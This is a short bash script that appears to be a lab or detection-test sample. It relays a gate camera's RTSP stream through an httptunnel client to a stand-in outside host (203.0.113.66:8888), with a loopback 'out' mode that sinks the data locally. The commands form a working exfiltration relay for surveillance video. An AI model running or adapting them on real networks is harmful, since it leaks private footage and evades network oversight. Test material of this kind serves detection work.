#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=live-relay,loopback-relay half=report tool=ffmpeg,htc camera=10.20.0.11 far=out ready=out:8888 seconds=45 parts=dns,camera-gate,recorder-gate,nas,outside-web
# The picture of gate goes to a local port of httptunnel, which carries it outside in PUTs.
if [ "$1" = out ]; then timeout 70 socat -u TCP-LISTEN:9000,bind=127.0.0.1,reuseaddr,fork /dev/null & exec timeout 70 hts -S -F 127.0.0.1:9000 8888; fi
htc -F 9905 203.0.113.66:8888; sleep 1
timeout 60 ffmpeg -nostdin -loglevel error -rtsp_transport tcp -i rtsp://gate.cam.lan/Streaming/Channels/101 -t "$LAB_SECONDS" -c copy -f mpegts tcp://127.0.0.1:9905; true
